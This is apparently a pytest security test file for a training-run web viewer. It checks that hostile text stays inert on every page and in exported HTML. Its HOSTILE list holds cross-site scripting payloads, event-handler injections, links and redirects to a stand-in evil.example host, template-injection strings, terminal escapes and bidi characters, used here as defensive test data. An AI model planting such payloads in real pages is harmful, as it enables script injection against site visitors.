"""What a model, a task or a tampered file says is text: nothing of it runs, and no page breaks of it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as parquet
import pytest
from helpers.browsing import looking, serving
from helpers.played import Told, said, write_log, write_step

from whet.view.app import file_of
from whet.view.site import Site

HOSTILE = [
    "<script>window.ran = 1; alert(1)</script>",
    "<img src=x onerror='window.ran = 1'><svg onload=window.ran=1>",
    "\"><script>window.ran=1</script><a href='javascript:window.ran=1' autofocus onfocus=window.ran=1>x</a>",
    "</div></details></table></textarea></title></style><!--<plaintext>",
    "{{ 7 * 7 }} {% raw %} ${7*7} %s %(x)s",
    "\x1b[2J\x1b]0;owned\x07\x00\x08\x9b31m",
    "\u202eright to left\u202c \u200b\u2066 \ufeff \u0301" + "\u0489" * 300,
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe><form action=//evil.example><base href=//evil.example>",
    "<div hx-get='//evil.example/x' hx-trigger=load hx-on::load='window.ran=1' data-plots data-i=0.0 class=plot>",
    "\u2028\u2029\r\n\t <meta http-equiv=refresh content='0;url=//evil.example'>",
]
LONG = "<b>" + "x" * 1_200_000
ADDRESSES = [
    "/",
    "/run?run={run}",
    "/rollouts?run={run}",
    "/step?run={run}",
    "/verifiers?run={run}",
    "/compare?run={run}&run={run}",
    "/problem?run={run}&problem={problem}",
    "/group?run={run}&stage=0&step=0&slot=0&group={group}",
    "/tokens?run={run}&stage=0&step=0&slot=0&group={group}&attempt=0",
    "/tokens?run={run}&stage=0&step=0&slot=0&group={group}&attempt=10",
]
# Whether anything of it became an element, an address or a program.
_HERE = 'location.host === document.body.baseURI.split("/")[2]'
_INERT = """() => {
  const made = "main script, iframe, img, object, embed, plaintext, base, meta[http-equiv=refresh], "
    + "[onerror], [onload], [onfocus], [autofocus], [srcdoc]";
  const to = (n) => new URL(n.getAttribute("href") || n.getAttribute("action") || n.getAttribute("hx-get"), location);
  return window.ran === undefined && document.title !== "owned" && HERE && !document.querySelector(made)
    && [...document.querySelectorAll("main :is([href], [action], [hx-get])")].every(n => to(n).host === location.host)
    && !/[\\u0000-\\u0008\\u001b\\u202e\\u2066\\u200b\\ufeff]/.test(document.body.innerText);
}""".replace("HERE", _HERE)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run in which every text is hostile: its name, settings, log, problems, groups, terms, and what was said."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "<img src=x onerror=alert(1)>'\"&\u202e"
    group = HOSTILE[2]
    attempts = [said(text, prompt=text, outcome=text, error=text, stop=text) for text in HOSTILE]  # type: ignore[arg-type]
    attempts.append(said(LONG, prompt=LONG))
    terms = {HOSTILE[0]: [float(i) for i in range(len(attempts))]}
    file = write_step(folder, 0, [Told(attempts, problem=HOSTILE[1], answer=HOSTILE[0], name=group, terms=terms)])
    table = parquet.read_table(file)
    spoiled = [text.encode() for text in table["text"].to_pylist()]
    spoiled[1] = b"\xff\xc3\x28\xed\xa0\x80 <script>window.ran=1</script>"
    place = table.column_names.index("text")
    parquet.write_table(table.set_column(place, "text", pa.array(spoiled, pa.binary()).view(pa.string())), file)
    (folder / "rollouts" / "0-<b>.parquet").write_bytes(b"PAR1 <script>window.ran=1</script>")
    alerts = [{"name": HOSTILE[0], "message": HOSTILE[1]}, "none", {"name": {"a": [1]}}]
    log = [
        {"step": i, "reward/mean": 0.5, f"reward/{HOSTILE[0]}": 1.0, HOSTILE[3]: 2.0, "alerts": alerts}
        for i in range(2)
    ]
    write_log(folder, log, recipe=HOSTILE[0], arm=HOSTILE[1], seed=HOSTILE[5])
    told = json.loads((folder / "recipe.json").read_text())
    told["stages"] = [{HOSTILE[0]: HOSTILE[1], "advantage": {"is": HOSTILE[2], HOSTILE[6]: HOSTILE[0]}, "long": LONG}]
    text = json.dumps(told).replace("{{ 7", "\\ud800 {{ 7")  # half a surrogate pair, as JSON may hold it
    (folder / "recipe.json").write_text(text)
    with open(folder / "metrics.jsonl", "ab") as lines:
        lines.write(
            b"\xff\xfe not json\n"
            + json.dumps({"step": 2, "big": 10**400, "x": "\ud800", "text": LONG}).encode()
            + b"\n"
        )
    return root


@pytest.fixture(scope="module")
def served(root: Path) -> Iterator[Any]:
    with serving(root) as started:
        yield started


@pytest.mark.parametrize("address", ADDRESSES, ids=lambda a: a.split("?")[0] + a[-2:])
def test_hostile_text_is_inert_on_every_page(browser: Any, served: Any, address: str) -> None:
    with looking(browser, served) as site:
        page = site.go(_filled(served, address))
        page.wait_for_timeout(200)
        assert page.evaluate(_INERT)
        assert site.wrong == []
        assert all(url.startswith((site.home, "data:")) for url in site.asked)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280


def test_a_search_for_hostile_text_finds_it_and_stays_inert(browser: Any, served: Any) -> None:
    with looking(browser, served) as site:
        page = site.go(_filled(served, "/rollouts?run={run}"))
        page.fill("[name=text]", "onerror='window")
        page.wait_for_timeout(600)
        assert page.evaluate(_INERT) and site.wrong == []
        page.fill("[name=text]", "<script>window")
        page.wait_for_timeout(600)
        assert "window.ran" in page.inner_text(".attempts") and page.evaluate(_INERT) and site.wrong == []


def test_a_megabyte_is_cut_and_comes_by_the_button(browser: Any, served: Any) -> None:
    with looking(browser, served) as site:
        page = site.go(_filled(served, "/group?run={run}&stage=0&step=0&slot=0&group={group}"))
        assert len(page.content()) < 400_000
        last = page.locator("article").last
        shown = len(last.inner_text())
        assert "more characters" in last.inner_text()
        last.locator("button.more").click()
        page.wait_for_timeout(800)
        assert len(last.inner_text()) > shown + 15_000
        assert last.locator("button.more").count() == 1 and page.evaluate(_INERT) and site.wrong == []


def test_a_file_of_hostile_text_is_inert_and_asks_for_nothing(
    browser: Any, served: Any, root: Path, tmp_path: Path
) -> None:
    site = Site([root])
    for number, address in enumerate(ADDRESSES):
        file = tmp_path / f"{number}.html"
        file.write_bytes(file_of(site, _filled(served, address)).encode("utf-8", "replace"))
        page = browser.new_page()
        wrong: list[str] = []
        asked: list[str] = []
        page.on("console", lambda said, wrong=wrong: wrong.append(said.text))
        page.on("pageerror", lambda error, wrong=wrong: wrong.append(str(error)))
        page.on("request", lambda request, asked=asked: asked.append(request.url))
        page.goto(file.as_uri())
        page.wait_for_selector("html[data-ready]")
        assert page.evaluate(_INERT.replace(_HERE, "true")), address
        assert asked == [file.as_uri()] and wrong == [], address
        page.close()
    site.close()


def _filled(served: Any, address: str) -> str:
    from urllib.parse import quote

    (run,) = served.site.runs.all()
    return address.format(run=quote(run, safe=""), group=quote(HOSTILE[2], safe=""), problem=quote(HOSTILE[1], safe=""))
